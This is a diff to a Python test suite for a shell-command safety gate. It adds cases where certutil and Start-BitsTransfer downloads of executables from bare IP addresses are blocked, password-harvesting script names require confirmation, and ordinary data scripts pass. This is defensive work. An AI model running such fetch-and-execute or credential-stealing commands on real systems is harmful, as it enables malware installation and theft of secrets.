@@ -115,6 +115,8 @@ def test_a_downloaded_program_asks(command: str) -> None:
     "curl -o tool.msi https://transfer.sh/AbCd/tool.msi",
     "wget https://cdn.discordapp.com/attachments/11/22/patch.exe",
     "Invoke-WebRequest -Uri http://198.51.100.8/s.bat -OutFile s.bat",
+    "certutil -urlcache -split -f http://198.51.100.9/u.exe u.exe",
+    "Start-BitsTransfer -Source http://198.51.100.9/u.exe -Destination u.exe",
 ])
 def test_a_program_from_a_bare_address_or_a_paste_host_blocks(command: str) -> None:
     got = shell(command)
@@ -182,7 +184,7 @@ def test_a_remote_tool_password_or_a_token_file_asks_as_a_file_read(path: str, e
     "python3 collect/harvest_tokens.py", "python steal_cookies.py", "node dump-creds.js", "bash keylogger.sh",
     "pwsh ./exfil.ps1", "python3 ransomware.py", "python3 wiper.py", "./crypto_miner.sh",
     "powershell -ExecutionPolicy Bypass -File .\\Steal-Cookies.ps1", "ruby PasswordGrabber.rb",
-    "perl backdoor.pl", "python3 token_stealer.py",
+    "perl backdoor.pl", "python3 token_stealer.py", "sh ./collect_passwords.sh", "node export-browser-passwords.js",
 ])
 def test_a_script_named_for_harm_asks(command: str) -> None:
     assert _decision(command) == Decision.CONFIRM, command
@@ -192,6 +194,7 @@ def test_a_script_named_for_harm_asks(command: str) -> None:
     "python3 train_model.py", "python3 token_counter.py", "node build.js", "python3 dump_db.py",
     "python3 tests/test_keylogger_detection.py", "python3 detect_ransomware.py", "node cookie_banner.js",
     "python3 password_reset.py", "python3 volume_sessions.py", "bash scripts/mine_logs.sh",
+    "python3 export_data.py", "python3 backup_db.py", "python3 extract_features.py", "python3 -m http.server",
 ])
 def test_an_ordinary_script_passes(command: str) -> None:
     assert _decision(command) == Decision.ALLOW, command
